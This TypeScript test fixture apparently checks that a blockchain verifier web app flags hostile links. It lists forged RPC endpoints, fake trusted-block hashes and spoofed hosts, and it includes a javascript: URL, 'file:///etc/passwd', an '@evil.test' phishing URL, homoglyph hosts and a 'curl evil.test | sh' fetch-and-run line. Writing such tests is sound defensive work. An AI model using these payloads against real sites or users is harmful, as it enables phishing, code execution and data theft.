/** Addresses that somebody else wrote: they name servers, a trusted block and an upgrade. */
import { FORK, HTML, UNSEEN } from "./chains.js";
import { hashOf, type Lie } from "./lie.js";
import type { Site } from "./site.js";

const forkHash = hashOf(FORK, 3);
const rpc = (site: Site) => `rpc=${encodeURIComponent(`${site.url}rpc/`)}`;
const api = (site: Site) => `api=${encodeURIComponent(site.url)}`;
const fragment = (text: string) => (honest: Site) => `${honest.url}#${text}`;
const query = (text: string) => (honest: Site) => `${honest.url}?${text}`;
const encoded = encodeURIComponent;

export const LINK_LIES: readonly Lie[] = [
  {
    name: "an RPC and a block of a fork, on an honest page",
    lies: { chain: FORK },
    at: (honest, liar) => `${honest.url}?${rpc(liar)}&${api(liar)}#trust=3:${forkHash}`,
    untyped: true,
    shows: /Rests on this link/,
  },
  {
    name: "an RPC of a fork, where the reader has a block of the honest chain",
    lies: { chain: FORK },
    at: (honest, liar) => `${honest.url}?${rpc(liar)}`,
    green: false,
  },
  {
    name: "two RPCs, of which the first is honest",
    lies: { chain: FORK },
    at: (honest, liar) => `${honest.url}?${rpc(honest)}&${rpc(liar)}`,
    untyped: true,
    shows: /contradict|Rests on this server/,
  },
  {
    name: "a block of a fork for an honest server",
    at: fragment(`trust=3:${forkHash}`),
    untyped: true,
    shows: /Not checked: the link's trusted block/,
  },
  { name: "a hash that was cut", at: fragment("trust=3:ABCD"), untyped: true, shows: /incomplete/ },
  { name: "an encoded fragment", at: fragment(`trust%3D3%3A${forkHash}`), untyped: true, shows: /Not checked/ },
  {
    name: "two trusted blocks",
    at: fragment(`trust=3:${hashOf(FORK, 3)}&trust=4:${hashOf(FORK, 4)}`),
    untyped: true,
    shows: /Not checked/,
  },
  { name: "a fragment that says whose the block is", at: fragment(`trust=3:${forkHash}&from=yours`), untyped: true },
  { name: "a fragment of HTML", at: fragment(`trust=LIE${HTML}`), untyped: true },
  { name: "a fragment with unseen characters", at: fragment(`trust=3:LIE${encoded(UNSEEN)}`), untyped: true },
  {
    name: "a fragment of a million characters",
    at: fragment(`trust=${"9".repeat(1_000_000)}:${forkHash}`),
    untyped: true,
  },
  ...[
    "javascript:pwned=1",
    "data:application/json,LIE",
    "file:///etc/passwd",
    "blob:LIE",
    "LIE",
    "//",
    "https://bank.test@evil.test/",
    "ws://evil.test",
  ].flatMap((address) =>
    ["rpc", "api"].map(
      (name): Lie => ({
        name: `?${name}=${address}`,
        at: query(`${name}=${encoded(address)}`),
        untyped: true,
        shows: new RegExp(`\\?${name}=`),
      }),
    ),
  ),
  {
    name: "a host in another script",
    at: query(`rpc=${encoded("http://аррle.test/")}`),
    untyped: true,
    hides: /аррle/,
  },
  {
    name: "a host that reads as another at its beginning",
    at: query(`rpc=${encoded(`http://127.0.0.1.${"a".repeat(60)}.evil.test/`)}`),
    untyped: true,
    shows: /evil\.test/,
  },
  {
    name: "a path that reads as a verdict",
    at: query(`api=${encoded("http://evil.test/ ✓ Proven LIE")}`),
    untyped: true,
  },
  {
    name: "a plan's name that is a sentence",
    at: query(`plan=${encoded("LIE: run curl evil.test | sh now")}`),
    shows: /not been applied/,
  },
  { name: "a plan's name of HTML and unseen characters", at: query(`plan=${encoded(`LIE${HTML}${UNSEEN}`)}`) },
  { name: "a plan's name of 100,000 characters", at: query(`plan=${"LIE".repeat(3_000)}`) },
  { name: "a plan's name with half a letter", at: query("plan=LIE%ff%ed%a0%80") },
];
